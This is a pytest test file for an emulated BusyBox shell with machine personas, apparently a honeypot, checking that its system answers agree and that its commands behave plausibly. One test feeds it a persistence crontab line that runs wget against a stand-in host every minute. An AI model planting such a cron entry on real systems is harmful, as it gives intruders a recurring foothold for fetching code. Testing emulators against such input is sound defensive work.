# SPDX-License-Identifier: Apache-2.0

"""Questions about the machine get answers that belong together."""

from __future__ import annotations

import pytest

from mead.shell import Shell, default_personas
from mead.shell.applets import APPLETS, NAMES


@pytest.mark.parametrize("persona", default_personas(), ids=lambda persona: persona.name)
def test_the_answers_agree(persona) -> None:  # noqa: ANN001
    shell = Shell(persona, now=lambda: persona.boot_time.replace(year=2027), interactive=False)

    def ask(line: str) -> str:
        return shell.run(line.encode()).output.decode()

    assert ask("uname -n; hostname; cat /proc/sys/kernel/hostname") == f"{persona.hostname}\n" * 3
    assert ask("uname -m; arch").split() == [persona.machine_name] * 2
    assert persona.kernel in ask("uname -r")
    assert ask("cat /proc/version").startswith(f"Linux version {persona.kernel} (")
    assert int(ask("nproc")) == persona.cpus == int(ask("grep -c ^processor /proc/cpuinfo"))
    assert str(persona.memory_kib) in ask("cat /proc/meminfo")
    assert ask("free").split()[7].isdigit()
    assert persona.hardware_address in ask("cat /sys/class/net/eth0/address")
    assert persona.hardware_address in ask("ifconfig").lower()
    assert persona.address in ask("ip addr")
    assert ask("id").startswith("uid=0(root) gid=0(root)")


@pytest.mark.parametrize("name", sorted({*APPLETS, *NAMES}))
def test_every_program_answers_whatever_it_is_given(name: str, shell: Shell, server: Shell) -> None:
    for words in (
        "",
        "--help",
        "-x",
        "nosuch",
        "-a -b c",
        "/ /",
        "1 2 3",
        "-c",
        "/etc/passwd",
        "-",
        "-z -- -y",
    ):
        for each in (shell, server):
            each.run(f"busybox {name} {words} < /etc/passwd".encode())
            assert not each.reading
            each.machine.down = each.closed = False


def test_a_crontab_is_kept_and_told(shell: Shell) -> None:
    shell.run(b'(crontab -l 2>/dev/null; echo "* * * * * wget http://192.0.2.1/x") | crontab -')
    assert shell.run(b"crontab -l").output == b"* * * * * wget http://192.0.2.1/x\n"
    assert shell.run(b"crontab -r; crontab -l").status == 1


def test_a_remount_makes_a_place_writable_if_its_kind_can_be_written(shell: Shell) -> None:
    assert shell.run(b"mount -o remount,ro /tmp; touch /tmp/x").output.endswith(b"Read-only file system\n")
    assert shell.run(b"mount -o remount,rw /tmp; touch /tmp/x").status == 0
    assert shell.run(b"mount -o remount,rw /usr; touch /usr/x").status == 1  # cramfs stays as it is


def test_mounts_come_and_go(shell: Shell) -> None:
    before = shell.run(b"cat /proc/mounts").output
    assert shell.run(b"mkdir /tmp/m; mount -o bind /tmp /tmp/m").status == 0
    assert b"tmpfs on /tmp/m type tmpfs" in shell.run(b"mount").output
    assert shell.run(b"umount /tmp/m; cat /proc/mounts").output == before
    assert shell.run(b"umount /").output == b"umount: can't unmount /: Device or resource busy\n"


def test_a_reboot_ends_the_session(shell: Shell) -> None:
    assert shell.run(b"sh").closed is False
    assert shell.run(b"reboot; echo no").closed


def test_a_password_is_asked_for(shell: Shell) -> None:
    assert shell.run(b"passwd").output.endswith(b"New password: ")
    assert shell.reading
